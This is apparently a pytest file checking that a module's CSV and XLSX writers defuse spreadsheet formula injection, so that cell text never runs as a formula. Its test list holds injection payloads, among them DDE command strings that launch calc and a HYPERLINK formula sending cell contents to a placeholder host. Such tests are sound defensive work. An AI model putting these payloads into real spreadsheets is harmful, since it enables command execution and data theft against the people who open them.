"""Tables for spreadsheets: no text of theirs becomes a formula, and files are written whole."""

import csv
import datetime as dt
import io
from pathlib import Path
from zipfile import ZipFile

import polars as pl
import pytest

from workbench.sheets import WRITERS, defused

DAY = dt.date(2026, 3, 1)
HOSTILE = [
    *("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "－1"),
    *('=HYPERLINK("http://x.example?"&A1)', "=cmd|'/C calc'!A0", "+A1", "-A1", "@A1", "\n=1"),
]
HARMLESS = ["Ann", "+33 1 99 00", "12-3", "a=b", "", "http://x.example", "0012"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_a_csv_is_text(tmp_path: Path, text: str) -> None:
    """An apostrophe stands before whatever a spreadsheet would run."""
    WRITERS["csv"](pl.DataFrame({"name": [text]}), tmp_path / "a" / "x.csv", DAY)
    written = (tmp_path / "a" / "x.csv").read_bytes().decode()
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["name"], [f"'{text}"]]


def test_numbers_and_harmless_texts_stay_as_they_are() -> None:
    """Negative numbers are numbers, telephone numbers are no sums, and null is null."""
    frame = pl.DataFrame({"text": [*HARMLESS, None], "change": [-1.5] * 8})
    assert defused(frame).equals(frame)


def test_names_from_a_list_are_defused_too() -> None:
    """Columns of fixed names hold texts as well."""
    frame = pl.DataFrame({"kind": pl.Series(["=1"], dtype=pl.Enum(["=1"]))})
    assert defused(frame)["kind"].to_list() == ["'=1"]


def test_a_workbook_holds_texts_only(tmp_path: Path) -> None:
    """Excel finds no formula and no link, and the same table gives the same file."""
    frame = pl.DataFrame({"name": [*HOSTILE, *HARMLESS]})
    for name in ("x", "y"):
        WRITERS["xlsx"](frame, tmp_path / f"{name}.xlsx", DAY)
    with ZipFile(tmp_path / "x.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "hyperlink" in name.lower()]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert sheet.count('t="s"') == frame.height  # the heading, and each text but the empty one
    assert (tmp_path / "x.xlsx").read_bytes() == (tmp_path / "y.xlsx").read_bytes()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["x.xlsx", "y.xlsx"]
